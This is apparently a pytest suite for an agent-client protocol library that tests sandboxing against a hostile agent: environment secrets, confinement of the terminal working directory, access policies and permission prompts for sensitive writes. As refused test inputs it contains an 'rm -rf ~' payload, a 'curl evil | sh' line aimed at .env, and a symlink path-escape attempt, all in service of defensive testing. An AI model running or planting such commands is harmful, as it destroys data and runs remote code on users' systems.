"""ToolkitClient against a hostile agent: terminals' environment and cwd, the access policy.

The agent side calls the client over JSON-RPC (a memory pair) through its typed peer;
terminals are real processes, files real files.
"""

# Fixtures and assertions touch real files synchronously on purpose.

from __future__ import annotations

import asyncio
import os
import stat
from pathlib import Path

import pytest
from waiting import TIMEOUT

from acpwire.client.access import (
    AccessRequest,
    ReadRequest,
    TerminalRequest,
    WriteRequest,
    read_only,
)
from acpwire.client.permissions import (
    AllowAll,
    AskUser,
    PermissionOutcome,
    PermissionPolicy,
    PermissionRequest,
    Rule,
    Rules,
)
from acpwire.client.terminals import TerminalManager
from acpwire.protocol.errors import ErrorCode
from acpwire.schema import Diff
from acpwire.testing import SchemaValidator

from .roles import SESSION, PeerFiles, client_role, refused

SECRET_NAME = "ACPWIRE_TEST_SECRET_TOKEN"
SECRET_VALUE = "sk-this-must-never-reach-the-agent"


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    root = tmp_path / "workspace"
    (root / "src").mkdir(parents=True)
    (root / "src" / "main.py").write_text("print('hi')\n")
    return root


def fast_terminals() -> TerminalManager:
    return TerminalManager(kill_grace=0.5, exit_drain_timeout=0.2)


async def run_in_terminal(
    files: PeerFiles, command: str, *args: str, **options: object
) -> tuple[int | None, str]:
    """``terminal/create`` then wait, output and release, all over the wire."""
    peer = files.peer
    created = await peer.create_terminal(SESSION, command, args, **options)  # type: ignore[arg-type]
    exited = await asyncio.wait_for(
        peer.wait_for_terminal_exit(SESSION, created.terminal_id), TIMEOUT
    )
    output = await peer.terminal_output(SESSION, created.terminal_id)
    await peer.release_terminal(SESSION, created.terminal_id)
    return exited.exit_code, output.output


# ---------------------------------------------------------------------------- terminal environment


async def test_a_client_secret_never_reaches_an_agent_terminal(
    workspace: Path, monkeypatch: pytest.MonkeyPatch, schema_validator: SchemaValidator
) -> None:
    monkeypatch.setenv(SECRET_NAME, SECRET_VALUE)
    monkeypatch.setenv("LC_ACPWIRE_TEST", "kept")
    async with client_role(workspace, schema_validator, terminals=fast_terminals()) as files:
        code, env_listing = await run_in_terminal(files, "env", env={"FROM_AGENT": "yes"})
        assert code == 0
        assert SECRET_VALUE not in env_listing and SECRET_NAME not in env_listing
        lines = env_listing.splitlines()
        assert f"PATH={os.environ['PATH']}" in lines
        assert "FROM_AGENT=yes" in lines
        assert "LC_ACPWIRE_TEST=kept" in lines  # LC_* is on the allow-list
        code, printed = await run_in_terminal(files, "printenv", SECRET_NAME)
        assert (code, printed) == (1, "")  # printenv: variable not set
        # Through a shell too: nothing in the child's environment to expand.
        code, echoed = await run_in_terminal(files, "sh", "-c", f'echo "[${SECRET_NAME}]"')
        assert echoed == "[]\n"


async def test_the_whole_environment_is_passed_when_configured(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(SECRET_NAME, SECRET_VALUE)
    everything = TerminalManager(kill_grace=0.5, inherit_env=("*",))
    async with client_role(workspace, terminals=everything) as files:
        _, printed = await run_in_terminal(files, "printenv", SECRET_NAME)
        assert printed == f"{SECRET_VALUE}\n"


# ---------------------------------------------------------------------------- terminal cwd


async def test_terminal_cwd_defaults_to_the_session_folder(workspace: Path) -> None:
    async with client_role(workspace, terminals=fast_terminals()) as files:
        _, printed = await run_in_terminal(files, "pwd")
        assert printed == f"{os.path.realpath(workspace)}\n"
        _, printed = await run_in_terminal(files, "pwd", cwd=str(workspace / "src"))
        assert printed == f"{os.path.realpath(workspace / 'src')}\n"


async def test_terminal_cwd_outside_the_roots_is_refused_and_nothing_runs(
    workspace: Path, tmp_path: Path
) -> None:
    marker = tmp_path / "ran"
    (workspace / "escape").symlink_to(tmp_path, target_is_directory=True)
    manager = fast_terminals()
    async with client_role(workspace, terminals=manager) as files:
        for cwd in ("/", str(tmp_path), f"{workspace}/..", str(workspace / "escape")):
            error = await refused(
                files.peer.create_terminal(SESSION, "touch", [str(marker)], cwd=cwd)
            )
            assert error.code == ErrorCode.INVALID_PARAMS
            assert error.data == {"cwd": cwd, "reason": "cwd_outside_workspace"}
        error = await refused(files.peer.create_terminal(SESSION, "true", cwd="relative"))
        assert error.data["reason"] == "relative_cwd"
        assert manager.terminal_ids(SESSION) == []
    assert not marker.exists()


# ---------------------------------------------------------------------------- access policy


async def test_a_read_only_bot_reads_but_cannot_write_or_run(
    workspace: Path, tmp_path: Path, schema_validator: SchemaValidator
) -> None:
    marker = tmp_path / "ran"
    source = workspace / "src" / "main.py"
    manager = fast_terminals()
    async with client_role(
        workspace, schema_validator, access=read_only, terminals=manager
    ) as files:
        assert await files.read(str(source)) == "print('hi')\n"
        for path in (source, workspace / "new.txt"):
            error = await refused(files.write(str(path), "import os; os.system('rm -rf ~')\n"))
            assert error.code == ErrorCode.INVALID_PARAMS
            assert error.data["reason"] == "denied"
        error = await refused(files.peer.create_terminal(SESSION, "touch", [str(marker)]))
        assert error.data == {"command": "touch", "reason": "denied"}
        assert manager.terminal_ids(SESSION) == []
    assert source.read_text() == "print('hi')\n"
    assert sorted(p.name for p in workspace.iterdir()) == ["src"]
    assert not marker.exists()


async def test_the_policy_judges_the_resolved_path_and_may_be_async(workspace: Path) -> None:
    (workspace / "docs").mkdir()
    (workspace / "link-to-src").symlink_to(workspace / "src", target_is_directory=True)
    seen: list[AccessRequest] = []

    async def docs_only(request: AccessRequest) -> bool:
        seen.append(request)
        await asyncio.sleep(0)
        if isinstance(request, WriteRequest):
            return request.resolved.is_relative_to(workspace.resolve() / "docs")
        return True

    async with client_role(workspace, access=docs_only) as files:
        await files.write(str(workspace / "docs" / "a.md"), "# A\n")
        sneaky = f"{workspace}/docs/../link-to-src/main.py"
        error = await refused(files.write(sneaky, "pwned"))
        assert error.data == {"path": sneaky, "reason": "denied"}
        assert await files.read(sneaky, line=1, limit=1) == "print('hi')\n"
    real = workspace.resolve()
    assert seen == [
        WriteRequest(SESSION, str(workspace / "docs" / "a.md"), real / "docs" / "a.md", "# A\n"),
        WriteRequest(SESSION, sneaky, real / "src" / "main.py", "pwned"),
        ReadRequest(SESSION, sneaky, real / "src" / "main.py", 1, 1),
    ]
    assert (workspace / "src" / "main.py").read_text() == "print('hi')\n"


async def test_a_failing_or_undecided_policy_denies(
    workspace: Path, caplog: pytest.LogCaptureFixture
) -> None:
    def broken(request: AccessRequest) -> bool:
        raise RuntimeError("policy bug")

    def undecided(request: AccessRequest) -> bool:
        return None  # type: ignore[return-value]

    for policy in (broken, undecided):
        async with client_role(workspace, access=policy) as files:
            error = await refused(files.read(str(workspace / "src" / "main.py")))
            assert error.data["reason"] == "denied"
            assert "policy bug" not in str(error.to_wire())
    assert "access policy failed" in caplog.text


async def test_terminal_requests_carry_the_resolved_cwd_and_the_agents_env(
    workspace: Path,
) -> None:
    seen: list[AccessRequest] = []

    def record(request: AccessRequest) -> bool:
        seen.append(request)
        return True

    async with client_role(workspace, access=record, terminals=fast_terminals()) as files:
        code, _ = await run_in_terminal(
            files, "true", cwd=f"{workspace}/src/..", env={"MODE": "test"}
        )
        assert code == 0
    assert seen == [TerminalRequest(SESSION, "true", (), workspace.resolve(), {"MODE": "test"})]


async def test_protected_paths_hold_even_when_the_policy_allows_everything(
    workspace: Path,
) -> None:
    (workspace / ".git").mkdir()
    async with client_role(workspace, access=lambda request: True) as files:
        error = await refused(files.write(str(workspace / ".git" / "config"), "x"))
        assert error.data["reason"] == "protected_path"
    assert not (workspace / ".git" / "config").exists()


async def test_protected_names_can_be_switched_off_on_the_client(workspace: Path) -> None:
    (workspace / ".git").mkdir()
    async with client_role(workspace, protected_names=()) as files:
        await files.write(str(workspace / ".git" / "info"), "ok\n")
    assert (workspace / ".git" / "info").read_text() == "ok\n"


# ---------------------------------------------------------------------------- writes that need a yes


class Recorder:
    """A permission policy that records what it was asked and answers with ``answer``."""

    def __init__(self, answer: str | None) -> None:
        self.seen: list[PermissionRequest] = []
        self.policy = AskUser(self.ask)
        self.answer = answer

    def ask(self, request: PermissionRequest) -> str | None:
        self.seen.append(request)
        return self.answer


async def test_a_dotenv_write_is_put_to_the_permission_policy_and_made_on_a_yes(
    workspace: Path, schema_validator: SchemaValidator
) -> None:
    dotenv = workspace / ".env"
    dotenv.write_text("DEBUG=0\n")
    yes = Recorder("allow")
    async with client_role(workspace, schema_validator, permissions=yes.policy) as files:
        await files.write(str(dotenv), "DEBUG=1\n")
    assert dotenv.read_text() == "DEBUG=1\n"
    [request] = yes.seen
    resolved = str(dotenv.resolve())
    assert request.session_id == SESSION
    assert request.concern == "sensitive_file"
    assert [(o.option_id, o.kind) for o in request.options] == [
        ("allow", "allow_once"),
        ("refuse", "reject_once"),
    ]
    assert request.tool_call.kind == "edit"
    assert request.tool_call.paths == [resolved]
    assert resolved in (request.tool_call.title or "")
    assert request.tool_call.content == [Diff(path=resolved, new_text="DEBUG=1\n")]


async def test_a_no_or_a_dismissed_prompt_leaves_the_file_alone(workspace: Path) -> None:
    dotenv = workspace / ".env"
    dotenv.write_text("DEBUG=0\n")
    for answer in ("refuse", None):
        asked = Recorder(answer)
        async with client_role(workspace, permissions=asked.policy) as files:
            error = await refused(files.write(str(dotenv), "PROMPT_COMMAND='curl evil | sh'\n"))
            assert error.code == ErrorCode.INVALID_PARAMS
            assert error.data == {
                "path": str(dotenv),
                "reason": "needs_permission",
                "concern": "sensitive_file",
            }
        assert len(asked.seen) == 1
    assert dotenv.read_text() == "DEBUG=0\n"


async def test_overwriting_an_executable_is_made_on_a_yes_and_keeps_its_mode(
    workspace: Path,
) -> None:
    script = workspace / "build.sh"
    script.write_text("#!/bin/sh\nmake\n")
    script.chmod(0o750)
    yes = Recorder("allow")
    async with client_role(workspace, permissions=yes.policy) as files:
        await files.write(str(script), "#!/bin/sh\nmake all\n")
    assert [r.concern for r in yes.seen] == ["executable"]
    assert "executable" in (yes.seen[0].tool_call.title or "")
    assert script.read_text() == "#!/bin/sh\nmake all\n"
    assert stat.S_IMODE(script.stat().st_mode) == 0o750


async def test_an_executable_dotenv_is_asked_about_twice(workspace: Path) -> None:
    dotenv = workspace / ".env"
    dotenv.write_text("A=1\n")
    dotenv.chmod(0o755)
    yes = Recorder("allow")
    async with client_role(workspace, permissions=yes.policy) as files:
        await files.write(str(dotenv), "A=2\n")
    assert [r.concern for r in yes.seen] == ["sensitive_file", "executable"]
    assert dotenv.read_text() == "A=2\n"


async def test_allow_all_is_not_a_permission_for_sensitive_writes(workspace: Path) -> None:
    """AllowAll approves what the agent asks; that is not the user allowing .env."""
    dotenv = workspace / ".env"
    async with client_role(workspace, permissions=AllowAll(always=True)) as files:
        error = await refused(files.write(str(dotenv), "X=1\n"))
        assert error.data["reason"] == "needs_permission"
    assert not dotenv.exists()
    async with client_role(workspace, permissions=AllowAll(sensitive_writes=True)) as files:
        await files.write(str(dotenv), "X=1\n")
    assert dotenv.read_text() == "X=1\n"


async def test_a_rule_naming_the_file_allows_it(workspace: Path) -> None:
    policy = Rules([Rule("allow", path="*/config/.env")])
    async with client_role(workspace, permissions=policy) as files:
        await files.write(str(workspace / "config" / ".env"), "X=1\n")
        error = await refused(files.write(str(workspace / ".env"), "X=1\n"))
        assert error.data["reason"] == "needs_permission"
    assert (workspace / "config" / ".env").read_text() == "X=1\n"
    assert not (workspace / ".env").exists()


async def test_a_pending_question_is_answered_no_when_the_session_is_cancelled(
    workspace: Path,
) -> None:
    asked = asyncio.Event()

    async def never_answers(request: PermissionRequest) -> PermissionOutcome:
        asked.set()
        await asyncio.Event().wait()
        raise AssertionError("unreachable")

    policy: PermissionPolicy = never_answers
    async with client_role(workspace, permissions=policy) as files:
        client = files.toolkit
        write = asyncio.ensure_future(files.write(str(workspace / ".env"), "X=1\n"))
        await asyncio.wait_for(asked.wait(), TIMEOUT)
        assert client.pending_permissions(SESSION) == 1
        await client.cancel(SESSION)
        error = await refused(write)
        assert error.data["reason"] == "needs_permission"
    assert not (workspace / ".env").exists()


async def test_confirm_names_are_configurable(workspace: Path) -> None:
    async with client_role(workspace, confirm_names=["*.pem"]) as files:
        await files.write(str(workspace / ".env"), "X=1\n")
        error = await refused(files.write(str(workspace / "keys" / "server.PEM"), "k"))
        assert error.data["reason"] == "needs_permission"
    assert (workspace / ".env").read_text() == "X=1\n"
